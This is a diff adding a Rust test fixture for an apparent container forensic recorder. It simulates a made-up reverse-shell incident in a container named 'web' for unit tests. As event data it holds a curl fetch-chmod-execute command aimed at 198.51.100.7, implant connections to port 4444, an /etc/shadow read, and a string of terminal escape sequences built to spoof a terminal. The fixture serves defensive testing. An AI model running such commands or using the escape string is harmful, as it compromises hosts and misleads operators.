@@ -1,0 +1,381 @@
+//! A made-up incident, for the unit tests of query and tui only: no recorder saw any of it.
+//!
+//! ```text
+//! seconds  what happens in container `web`
+//!  0       it is created; systemd > dockerd (both on the host, found running) > sh, its init
+//!  0.5     sh runs httpd, which listens on 8080 and opens its configuration
+//! 10       somebody connects; httpd runs `sh -c` with that connection as stdin: a reverse shell (finding)
+//! 10.3     sh runs curl, which downloads /tmp/.part and renames it to /tmp/.x
+//! 11       chmod; /tmp/.x runs, is refused by 127.0.0.1:4444, reaches 198.51.100.7:4444
+//! 11.5     a process whose name and arguments are terminal escape sequences; /tmp/.x removes itself
+//! 11.7     three bulk events are lost
+//! 13       /tmp/.x is killed by signal 9, its sh exits with 137
+//! 20       a person asks for the evidence
+//! ```
+
+use crate::assemble::{Source, assemble};
+use crate::bundle::{self, SUFFIX};
+use crate::clock::{Anchor, BootNs, Clock};
+use crate::container::{Container, HOST, Runtime};
+use crate::event::{
+    Actor, Body, Class, Endpoint, Event, Exit, FileEvent, FileOp, Finding, FlowEvent, FlowOp, FlowPhase, Gap, GapCause,
+    Image, Lifecycle, LifecycleOp, Origin, PathSource, Severity, Stdio,
+};
+use crate::ids::{BootId, ContainerKey, ProcessId};
+use crate::manifest::{Hook, Host, Manifest, SegmentRef, TableRef, Trigger, Window};
+use crate::table::Tables;
+use std::net::IpAddr;
+use std::path::{Path, PathBuf};
+
+/// Id of the recorded container.
+pub const CONTAINER_ID: &str = "3f2a9c1b7d5e4f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8";
+/// A process's name and argument that would retitle, recolour and reorder a terminal.
+pub const HOSTILE: &str = "\u{1b}]0;owned\u{7}\u{1b}[31m\u{202e}exe.txt\u{9b}2J\r\n";
+
+/// Boot time at which the story begins.
+const BEGIN_NS: BootNs = 1_000_000_000_000;
+/// The same moment: 2026-03-14T09:00:00Z.
+const BEGIN_UTC_NS: i64 = 1_773_478_800_000_000_000;
+const MS: u64 = 1_000_000;
+
+/// The incident as a manifest and tables.
+///
+/// # Panics
+/// Where its own events do not fit the tables, a fault of this file or of `assemble`.
+pub fn incident() -> (Manifest, Tables) {
+    let clock = Clock::new(vec![Anchor { boot_ns: BEGIN_NS, utc_ns: BEGIN_UTC_NS }]);
+    let window = Window { from_ns: BEGIN_NS, to_ns: BEGIN_NS + 25_000 * MS };
+    let container = container();
+    let story = tell();
+    let source = Source {
+        container: &container,
+        window,
+        clock: &clock,
+        live: story.live,
+        ancestors_outside: true,
+        events: story.events,
+    };
+    let assembled = assemble(source).expect("the story fits the tables");
+    let tables = assembled.tables.iter();
+    let manifest = Manifest {
+        format_version: crate::FORMAT_VERSION,
+        tool: "taffrail 0.1.0 (fixture)".to_owned(),
+        id: "0badcafe".to_owned(),
+        sealed_utc_ns: BEGIN_UTC_NS + 26_000 * MS as i64,
+        container,
+        trigger: Trigger {
+            rule: "reverse_shell".to_owned(),
+            severity: Severity::Critical,
+            reason: "a shell has a network connection as its standard input".to_owned(),
+            time_ns: BEGIN_NS + 10_200 * MS,
+        },
+        window,
+        host: Host {
+            hostname: "quay".to_owned(),
+            kernel: "6.18.0".to_owned(),
+            arch: "x86_64".to_owned(),
+            boot_id: boot().0,
+        },
+        tables: tables.map(|table| TableRef { name: table.spec().name.to_owned(), rows: table.rows() }).collect(),
+        clock,
+        hooks: vec![
+            Hook { name: "tp_btf/sched_process_exec".to_owned(), state: "attached".to_owned(), reason: None },
+            Hook {
+                name: "lsm/file_open".to_owned(),
+                state: "refused".to_owned(),
+                reason: Some("lockdown: integrity".to_owned()),
+            },
+        ],
+        losses: assembled.losses,
+        segments: vec![
+            SegmentRef { class: Class::Vital, seq: 0, events: 40, sha256: "a".repeat(64) },
+            SegmentRef { class: Class::Bulk, seq: 0, events: 4, sha256: "b".repeat(64) },
+        ],
+    };
+    (manifest, assembled.tables)
+}
+
+/// Writes the incident as a bundle into `dir` and gives its path.
+///
+/// # Panics
+/// Where `dir` cannot be written.
+pub fn write_incident(dir: &Path) -> PathBuf {
+    let (manifest, tables) = incident();
+    let path = dir.join(format!("web-20260314T090010Z-{}{SUFFIX}", manifest.id));
+    bundle::write(&path, &manifest, &tables).expect("the directory can be written");
+    path
+}
+
+fn boot() -> BootId {
+    BootId("5d3f9c52-0000-4000-8000-000000000000".to_owned())
+}
+
+fn container() -> Container {
+    Container {
+        key: ContainerKey::new(&boot(), 4711),
+        id: CONTAINER_ID.to_owned(),
+        name: "web".to_owned(),
+        runtime: Runtime::Docker,
+        cgroup_path: format!("/docker/{CONTAINER_ID}"),
+        created_ns: Some(BEGIN_NS),
+        image: Some("registry.example/web:1.4".to_owned()),
+        image_digest: Some(format!("sha256:{}", "c0ffee".repeat(10))),
+        labels: [("team".to_owned(), "harbour".to_owned())].into(),
+    }
+}
+
+/// Events as they come to mind.
+#[derive(Default)]
+struct Story {
+    live: Vec<Image>,
+    events: Vec<Event>,
+}
+
+/// A time in milliseconds after the beginning.
+fn at(ms: u64) -> BootNs {
+    BEGIN_NS + ms * MS
+}
+
+fn end(addr: &str, port: u16) -> Endpoint {
+    Endpoint { addr: addr.parse::<IpAddr>().expect("an address"), port }
+}
+
+fn tell() -> Story {
+    let mut story = Story::default();
+    let systemd = story.found(1, None, "/usr/lib/systemd/systemd", &["/sbin/init"], 10 * MS);
+    let dockerd = story.found(800, Some(&systemd), "/usr/bin/dockerd", &["dockerd", "-H", "fd://"], 9_000 * MS);
+    story.add(
+        at(0),
+        None,
+        Body::Lifecycle(Lifecycle { op: LifecycleOp::Created, cgroup_path: format!("/docker/{CONTAINER_ID}") }),
+    );
+    let init = story.run(100, 5000, &dockerd, "/bin/busybox", &["sh", "/entrypoint.sh"], Stdio::CharDevice);
+    let httpd = story.run(500, 5001, &init, "/bin/busybox", &["httpd", "-f", "-p", "8080"], Stdio::CharDevice);
+    story.flow(600, &httpd, 1, FlowPhase::Begin, &listener());
+    story.file(700, &httpd, FileOp::Open, "/etc/httpd.conf", 0);
+    story.file(710, &httpd, FileOp::Open, "/etc/httpd.d/extra.conf", -2);
+    let shell = intrusion(&mut story, &httpd);
+    download(&mut story, &shell);
+    let implant = implant(&mut story, &shell);
+    aftermath(&mut story, &shell, &implant, &httpd);
+    story
+}
+
+fn intrusion(story: &mut Story, httpd: &Image) -> Image {
+    story.flow(10_000, httpd, 2, FlowPhase::Begin, &visitor());
+    let stdin = Stdio::Inet { local: visitor().local, remote: end("203.0.113.9", 40112) };
+    let script = "curl -so /tmp/.part http://198.51.100.7/x && mv /tmp/.part /tmp/.x; chmod 755 /tmp/.x; /tmp/.x";
+    let shell = story.run(10_110, 5010, httpd, "/bin/busybox", &["sh", "-c", script], stdin);
+    story.add(
+        at(10_200),
+        Some(actor(&shell)),
+        Body::Finding(Box::new(Finding {
+            rule: "reverse_shell".to_owned(),
+            severity: Severity::Critical,
+            message: "sh runs with 203.0.113.9:40112 as its standard input".to_owned(),
+        })),
+    );
+    shell
+}
+
+fn download(story: &mut Story, shell: &Image) {
+    let url = "http://198.51.100.7/x";
+    let curl = story.run(10_310, 5011, shell, "/usr/bin/curl", &["curl", "-so", "/tmp/.part", url], Stdio::Pipe);
+    let mut flow = call(3, end("172.17.0.2", 51000), end("198.51.100.7", 80));
+    story.flow(10_350, &curl, 3, FlowPhase::Begin, &flow);
+    story.flow(10_380, &curl, 3, FlowPhase::Established, &flow);
+    story.file(10_400, &curl, FileOp::Create, "/tmp/.part", 0);
+    (flow.bytes_sent, flow.bytes_received) = (84, 1_482_752);
+    story.flow(10_800, &curl, 3, FlowPhase::End, &flow);
+    story.exit(10_810, &curl, Some(0), None);
+    let mv = story.run(10_830, 5012, shell, "/bin/busybox", &["mv", "/tmp/.part", "/tmp/.x"], Stdio::Pipe);
+    story.file(10_850, &mv, FileOp::Rename, "/tmp/.part", 0);
+    story.exit(10_860, &mv, Some(0), None);
+    let chmod = story.run(11_000, 5013, shell, "/bin/busybox", &["chmod", "755", "/tmp/.x"], Stdio::Pipe);
+    story.file(11_010, &chmod, FileOp::Chmod, "/tmp/.x", 0);
+    story.exit(11_020, &chmod, Some(0), None);
+}
+
+fn implant(story: &mut Story, shell: &Image) -> Image {
+    let implant = story.run(11_200, 5014, shell, "/tmp/.x", &["/tmp/.x"], Stdio::Pipe);
+    let mut refused = call(4, end("127.0.0.1", 51001), end("127.0.0.1", 4444));
+    story.flow(11_250, &implant, 4, FlowPhase::Begin, &refused);
+    refused.result = -111;
+    story.flow(11_251, &implant, 4, FlowPhase::End, &refused);
+    let open = call(5, end("172.17.0.2", 51002), end("198.51.100.7", 4444));
+    story.flow(11_300, &implant, 5, FlowPhase::Begin, &open);
+    story.flow(11_340, &implant, 5, FlowPhase::Established, &open);
+    let hostile = story.run(11_500, 5015, &implant, "/tmp/.x", &[HOSTILE, "plain"], Stdio::Pipe);
+    story.file(11_520, &hostile, FileOp::Open, "/etc/shadow", -13);
+    story.exit(11_540, &hostile, Some(1), None);
+    story.file(11_600, &implant, FileOp::Unlink, "/tmp/.x", 0);
+    implant
+}
+
+fn aftermath(story: &mut Story, shell: &Image, implant: &Image, httpd: &Image) {
+    story.add(
+        at(12_000),
+        None,
+        Body::Gap(Gap {
+            class: Class::Bulk,
+            cause: GapCause::RingFull,
+            lost: Some(3),
+            from_ns: at(11_700),
+            to_ns: at(12_000),
+            own: true,
+        }),
+    );
+    story.exit(13_000, implant, None, Some(9));
+    story.exit(13_100, shell, Some(137), None);
+    let mut visit = visitor();
+    (visit.bytes_sent, visit.bytes_received) = (512, 301);
+    story.flow(13_200, httpd, 2, FlowPhase::End, &visit);
+    story.add(
+        at(20_000),
+        None,
+        Body::Finding(Box::new(Finding {
+            rule: "manual".to_owned(),
+            severity: Severity::Info,
+            message: "asked for by root".to_owned(),
+        })),
+    );
+}
+
+fn flow(id: u64, op: FlowOp, local: Endpoint, remote: Option<Endpoint>) -> FlowEvent {
+    FlowEvent {
+        flow_id: id,
+        phase: FlowPhase::Begin,
+        op,
+        start_ns: 0,
+        local,
+        remote,
+        bytes_sent: 0,
+        bytes_received: 0,
+        result: 0,
+    }
+}
+
+fn listener() -> FlowEvent {
+    flow(1, FlowOp::Listen, end("::", 8080), None)
+}
+
+fn visitor() -> FlowEvent {
+    flow(2, FlowOp::Accept, end("172.17.0.2", 8080), Some(end("203.0.113.9", 40112)))
+}
+
+fn call(id: u64, local: Endpoint, remote: Endpoint) -> FlowEvent {
+    flow(id, FlowOp::Connect, local, Some(remote))
+}
+
+fn actor(image: &Image) -> Actor {
+    Actor { exec_id: image.exec_id, pid: image.pid, tid: image.pid, uid: image.uid, comm: image.comm.clone() }
+}
+
+fn image(pid: u32, parent: Option<&Image>, origin: Origin, time_ns: BootNs, exe: &str, args: &[&str]) -> Image {
+    let process_id = ProcessId::new(&boot(), pid, time_ns);
+    let name = args.first().copied().unwrap_or_default();
+    let host = matches!(origin, Origin::Scan);
+    Image {
+        exec_id: process_id.image(&boot(), 0),
+        process_id,
+        parent_exec_id: parent.map(|parent| parent.exec_id),
+        origin,
+        time_ns,
+        pid,
+        ppid: parent.map_or(0, |parent| parent.pid),
+        uid: 0,
+        gid: 0,
+        comm: name.rsplit('/').next().unwrap_or_default().chars().take(15).collect(),
+        exe: exe.to_owned(),
+        exe_inode: 1000 + u64::from(pid),
+        exe_deleted: false,
+        args: args.iter().map(|arg| (*arg).to_owned()).collect(),
+        args_cut: false,
+        cwd: "/".to_owned(),
+        stdio: [Stdio::Unknown; 2],
+        container_id: if host { HOST } else { CONTAINER_ID }.to_owned(),
+        container_name: if host { HOST } else { "web" }.to_owned(),
+    }
+}
+
+impl Story {
+    fn add(&mut self, time_ns: BootNs, actor: Option<Actor>, body: Body) {
+        self.events.push(Event { time_ns, actor, body });
+    }
+
+    /// A process on the host, older than the recorder.
+    fn found(&mut self, pid: u32, parent: Option<&Image>, exe: &str, args: &[&str], time_ns: BootNs) -> Image {
+        let image = image(pid, parent, Origin::Scan, time_ns, exe, args);
+        self.live.push(image.clone());
+        image
+    }
+
+    /// A fork 10 ms before `ms`, and the exec at `ms`.
+    fn run(&mut self, ms: u64, pid: u32, parent: &Image, exe: &str, args: &[&str], stdin: Stdio) -> Image {
+        let parent_args: Vec<&str> = parent.args.iter().map(String::as_str).collect();
+        let forked = image(pid, Some(parent), Origin::Fork, at(ms - 10), &parent.exe, &parent_args);
+        self.add(forked.time_ns, Some(actor(&forked)), Body::Image(Box::new(forked.clone())));
+        let image = Image {
+            exec_id: forked.process_id.image(&boot(), 1),
+            process_id: forked.process_id,
+            stdio: [stdin, Stdio::Pipe],
+            ..image(pid, Some(parent), Origin::Exec, at(ms), exe, args)
+        };
+        self.add(image.time_ns, Some(actor(&image)), Body::Image(Box::new(image.clone())));
+        image
+    }
+
+    fn exit(&mut self, ms: u64, image: &Image, code: Option<i32>, signal: Option<i32>) {
+        self.add(at(ms), Some(actor(image)), Body::Exit(Exit { code, signal }));
+    }
+
+    fn file(&mut self, ms: u64, image: &Image, op: FileOp, path: &str, result: i32) {
+        let (flags, mode, fd) = match op {
+            FileOp::Create => (0o1101, Some(0o644), Some(3)),
+            FileOp::Open => (0o2_000_000, None, (result == 0).then_some(3)),
+            FileOp::Chmod => (0, Some(0o755), None),
+            FileOp::Unlink | FileOp::Rmdir | FileOp::Rename => (0, None, None),
+        };
+        let kernel = fd.is_some();
+        self.add(
+            at(ms),
+            Some(actor(image)),
+            Body::File(Box::new(FileEvent {
+                op,
+                path: path.to_owned(),
+                new_path: (op == FileOp::Rename).then(|| "/tmp/.x".to_owned()),
+                path_source: if kernel { PathSource::Kernel } else { PathSource::User },
+                flags,
+                mode,
+                result,
+                fd,
+                inode: kernel.then_some(77),
+            })),
+        );
+    }
+
+    /// One moment of a flow; it began when it was first told of.
+    fn flow(&mut self, ms: u64, image: &Image, id: u64, phase: FlowPhase, flow: &FlowEvent) {
+        let began = self.events.iter().find_map(|event| match &event.body {
+            Body::Flow(known) if known.flow_id == id => Some(known.start_ns),
+            _ => None,
+        });
+        let moment = FlowEvent { flow_id: id, phase, start_ns: began.unwrap_or(at(ms)), ..flow.clone() };
+        self.add(at(ms), Some(actor(image)), Body::Flow(Box::new(moment)));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::bundle::{Bundle, Verdict};
+
+    #[test]
+    fn the_incident_is_a_bundle_that_verifies() {
+        let dir = tempfile::tempdir().expect("a directory");
+        let bundle = Bundle::open(&write_incident(dir.path())).expect("a bundle");
+        assert!(matches!(bundle.verify(), Ok(Verdict::Intact(_))));
+        assert_eq!(bundle.manifest().container.name, "web");
+        assert_eq!(bundle.manifest().losses.len(), 1);
+    }
+}
